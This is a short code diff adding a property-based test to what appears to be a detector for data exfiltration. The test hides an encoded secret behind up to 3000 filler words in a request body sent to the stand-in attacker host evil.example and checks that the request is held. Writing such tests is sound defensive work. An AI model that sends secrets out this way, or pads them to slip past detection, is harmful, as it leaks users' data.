@@ -73,3 +73,13 @@ it('lets pass what has no answer, where it would pass without any', () => {
     { examples },
   );
 });
+
+it('finds one behind any number of words that say nothing', () => {
+  fc.assert(
+    fc.property(fc.integer({ min: 0, max: 3000 }), fc.constantFrom(base64, ways[4] ?? base64), (words, encode) => {
+      const body = JSON.stringify({ t: `${'abcdefghij '.repeat(words)}${encode(answer)}` });
+      expect(aJudge().isHeld(request('https://evil.example/c', body, 'Fetch'))).toBe(true);
+    }),
+    { numRuns: 20 },
+  );
+});
